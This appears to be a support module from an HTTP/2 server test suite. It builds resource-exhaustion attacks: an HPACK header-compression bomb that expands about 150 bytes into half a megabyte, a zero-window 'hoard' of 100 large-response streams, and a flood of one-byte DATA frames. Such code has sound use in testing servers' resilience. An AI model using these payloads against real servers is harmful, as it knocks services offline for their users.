import { CarefulClient } from '../support/careful-client.ts'
import * as frames from '../support/frames.ts'
import { setting } from '../support/frames.ts'
import { encodeBlock, encodeInteger } from '../support/header-block.ts'
import type { Where } from '../support/raw-http2.ts'
import { get, largeGet } from './attack.ts'

const value = 'b'.repeat(3_900)
const name = 'x-bomb'

/** Puts a field of almost 4 KB into the table (RFC 7541 section 6.2.1). */
const fill = Buffer.concat([
  Buffer.from([0x40]),
  encodeInteger(0, 7, name.length),
  Buffer.from(name),
  encodeInteger(0, 7, value.length),
  Buffer.from(value),
])

/** A header list of half a megabyte in 150 bytes; the first one brings what the others name. */
export function bombBlock(isFirst: boolean): Buffer {
  return Buffer.concat([encodeBlock(get), isFirst ? fill : Buffer.alloc(0), Buffer.alloc(120, 0xbe)])
}

/** Asks for a hundred large answers and lets none of them come. */
export async function hoard(where: Where): Promise<CarefulClient> {
  const client = await CarefulClient.open(where, [[setting.initialWindow, 0]])
  const streams = Array.from({ length: 100 }, () => client.request(largeGet, { end: true }))
  await client.until(() => streams.every(({ head }) => head !== undefined))
  return client
}

/** DATA of one byte in as many frames as the windows allow, for an endpoint that does not take them. */
export function* tinyPieces(ids: readonly number[], perStream: number): Generator<Buffer> {
  const batch = 500
  for (const id of ids) {
    const piece = Buffer.concat(Array.from({ length: batch }, () => frames.data(id, Buffer.alloc(1))))
    for (let sent = 0; sent < perStream; sent += batch) yield piece
  }
}
